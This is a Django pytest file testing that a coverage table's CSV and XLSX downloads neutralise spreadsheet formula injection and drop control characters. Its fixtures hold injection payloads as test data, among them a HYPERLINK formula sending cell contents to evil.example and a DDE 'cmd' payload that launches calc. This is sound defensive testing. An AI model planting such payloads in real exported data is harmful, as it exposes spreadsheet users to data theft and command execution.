"""The CSV and XLSX downloads of the support mapping hold stored text as text: never a formula,
never a character a spreadsheet cannot hold, whatever was stored before text was cleaned."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from iisg.analysis import tables
from iisg.core.choices import Role
from iisg.core.tests import factories as f
from iisg.needs.models import Need

from . import world

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
# The titles of the needs members see in the coverage table (N7 is a draft).
TITLES = {
    "N1": HYPERLINK,
    "N2": "+1+cmd|' /C calc'!A0",
    "N3": "-2+3",
    "N4": "@SUM(A1:A9)",
    "N5": "Night\x0bvision\x1b[31m goggles",
    "N6": "\x1b=1+1",
}
# What a person sees of them: Word's line break as a line break, the escape character dropped.
SHOWN = {**TITLES, "N5": "Night\nvision[31m goggles", "N6": "=1+1"}


@pytest.fixture
def w():
    w = world.build()
    for reference, title in TITLES.items():
        # An update, as rows written before text was cleaned on the way in: no cleaning here.
        Need.objects.filter(pk=w["needs"][reference].pk).update(title=title)
    return w


@pytest.fixture
def member_client(client):
    client.force_login(f.UserFactory(roles=[Role.MEMBER]))
    return client


def download(client, w, fmt):
    response = client.get(reverse("analysis:export", args=["coverage", fmt]), {"cycle": w["cycle"].pk, "year": 2022})
    assert response.status_code == 200
    return response.content


def test_xlsx_writes_every_stored_title_as_a_text_cell_without_control_characters(member_client, w):
    sheet = load_workbook(io.BytesIO(download(member_client, w, "xlsx"))).worksheets[0]
    assert [cell.value for cell in sheet[1]][:2] == ["Reference", "Need"]
    titles = {row[0].value: (row[1].value, row[1].data_type) for row in sheet.iter_rows(min_row=2)}
    assert titles == {reference: (title, "s") for reference, title in SHOWN.items()}


def test_csv_guards_formula_starts_and_drops_control_characters(member_client, w):
    text = download(member_client, w, "csv").decode("utf-8-sig")
    rows = {row[0]: row[1] for row in csv.reader(io.StringIO(text)) if row and row[0] in TITLES}
    assert rows == {
        "N1": f"'{HYPERLINK}",
        "N2": "'+1+cmd|' /C calc'!A0",
        "N3": "'-2+3",
        "N4": "'@SUM(A1:A9)",
        "N5": "Night\nvision[31m goggles",
        "N6": "'=1+1",  # the escape character no longer hides the formula
    }


def test_numbers_stay_numbers_in_both_files_even_when_negative():
    table = tables.Table(
        name="funding",
        title="Funding",
        columns=[tables.Column("year", "Year"), tables.Column("disbursed", "Disbursed (EUR)", tables.MONEY)],
        rows=[["2022", Decimal("-1500.004")], ["-2023", Decimal("250")]],
    )
    rows = list(csv.reader(io.StringIO(tables.to_csv(table).decode("utf-8-sig"))))
    assert rows[1:3] == [["2022", "-1500.00"], ["'-2023", "250.00"]]
    sheet = load_workbook(io.BytesIO(tables.to_xlsx(table))).worksheets[0]
    amount, text = sheet["B2"], sheet["A3"]
    assert (amount.value, amount.data_type, amount.number_format) == (-1500, "n", "#,##0.00")
    assert (text.value, text.data_type) == ("-2023", "s")


def test_the_notes_sheet_and_the_csv_notes_drop_control_characters():
    table = tables.Table(name="gaps", title="Gaps\x1b", columns=[tables.Column("title", "Need")], rows=[])
    scope = ["Partner: Alba\x1bnia", "Area: =1+1"]
    notes = load_workbook(io.BytesIO(tables.to_xlsx(table, scope))).worksheets[1]
    lines = [cell for (cell,) in notes.iter_rows(max_row=3)]
    assert [(cell.value, cell.data_type) for cell in lines] == [
        ("Gaps", "s"),
        ("Partner: Albania", "s"),
        ("Area: =1+1", "s"),
    ]
    rows = list(csv.reader(io.StringIO(tables.to_csv(table, scope).decode("utf-8-sig"))))
    assert rows[-2:] == [["Partner: Albania"], ["Area: =1+1"]]
